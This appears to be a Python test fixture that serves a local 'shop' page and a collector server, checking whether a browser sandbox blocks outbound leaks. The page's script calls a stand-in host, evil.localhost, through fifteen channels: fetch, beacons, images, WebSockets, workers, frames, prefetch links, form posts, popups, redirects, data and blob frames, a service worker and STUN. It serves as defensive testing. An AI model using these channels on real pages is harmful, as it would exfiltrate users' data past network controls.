"""A shop whose page tries to send what it knows to a collector in every way that a page has, and the collector."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import unquote

from tests.harness.pages import PageHandler, serving

WAYS = (
    "fetch", "beacon", "image", "socket", "worker", "frame", "link", "form", "popup", "redirect", "data", "blob",
    "service", "prefetch", "stun",
)  # fmt: skip

_PAGE = """<html><body><script>
document.title = document.cookie.includes('sid=in') ? 'in' : 'out';
const targets = ['http://evil.localhost:PORT', 'http://127.0.0.1:PORT', 'http://[::1]:PORT'];
const add = (tag, fields) => { const made = Object.assign(document.createElement(tag), fields); document.body.append(made); return made; };
const html = (target, way) => `<script>fetch('${target}/${way}', {mode: 'no-cors'})<\\/script>`;
for (const target of targets) {
  fetch(target + '/fetch', {mode: 'no-cors'}).catch(() => 0);
  navigator.sendBeacon(target + '/beacon', 'x');
  new Image().src = target + '/image';
  new WebSocket(target.replace('http', 'ws') + '/socket').onerror = () => 0;
  new Worker(URL.createObjectURL(new Blob([`fetch('${target}/worker', {mode: 'no-cors'}).catch(() => 0)`])));
  add('iframe', {src: target + '/frame'});
  for (const rel of ['preconnect', 'dns-prefetch']) add('link', {rel, href: target});
  add('link', {rel: 'stylesheet', href: target + '/link'});
  add('link', {rel: 'prefetch', href: target + '/prefetch'});
  add('iframe', {name: 'form' + target});
  add('form', {action: target + '/form', method: 'post', target: 'form' + target}).submit();
  add('iframe', {src: '/away?' + encodeURIComponent(target + '/redirect')});
  add('iframe', {src: 'data:text/html,' + encodeURIComponent(html(target, 'data'))});
  add('iframe', {src: URL.createObjectURL(new Blob([html(target, 'blob')], {type: 'text/html'}))});
}
navigator.serviceWorker?.register('/service.js').catch(() => 0);
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});
peer.createDataChannel('x');
peer.createOffer().then(offer => peer.setLocalDescription(offer));
</script></body></html>"""

_POPUPS = """<script>
for (const target of ['http://evil.localhost:PORT', 'http://127.0.0.1:PORT']) window.open(target + '/popup');
</script>"""

_SERVICE = (
    "for (const t of ['http://evil.localhost:PORT', 'http://127.0.0.1:PORT']) fetch(t + '/service', {mode: 'no-cors'});"
)


class Collector:
    """What reached the collecting server.

    Attributes:
        seen: the ways by which something came.
        port: of HTTP.
        udp: port of STUN.
    """

    def __init__(self) -> None:
        self.seen: set[str] = set()
        self.port = self.udp = 0


@contextmanager
def hostile_site() -> Iterator[tuple[str, Collector]]:
    """Run the shop and the collector. Yield the shop's URL."""
    collector = Collector()

    class Collecting(PageHandler):
        def respond(self) -> None:
            """Collect."""
            collector.seen.add(self.path.strip("/").partition("?")[0])
            self.answer(headers={"Access-Control-Allow-Origin": "*"})

    class Shop(PageHandler):
        def respond(self) -> None:
            """Serve the page, its service worker, and a redirect to the collector."""
            path, _, query = self.path.partition("?")
            text = {"/service.js": _SERVICE, "/popups": _POPUPS}.get(path, _PAGE)
            body = text.replace("PORT", str(collector.port)).replace("UDP", str(collector.udp))
            if path == "/away":
                self.answer(status=302, headers={"Location": unquote(query)})
            else:
                self.answer(body, kind="text/javascript" if path == "/service.js" else "text/html")

    with (
        serving(Collecting) as collector.port,
        serving(Shop) as shop_port,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        datagrams.bind(("127.0.0.1", 0))
        collector.udp = datagrams.getsockname()[1]

        def receive() -> None:
            while datagrams.recvfrom(2000)[0] != b"end":
                collector.seen.add("stun")

        thread = threading.Thread(target=receive)
        thread.start()
        try:
            yield f"http://shop.localhost:{shop_port}/", collector
        finally:
            datagrams.sendto(b"end", datagrams.getsockname())
            thread.join()
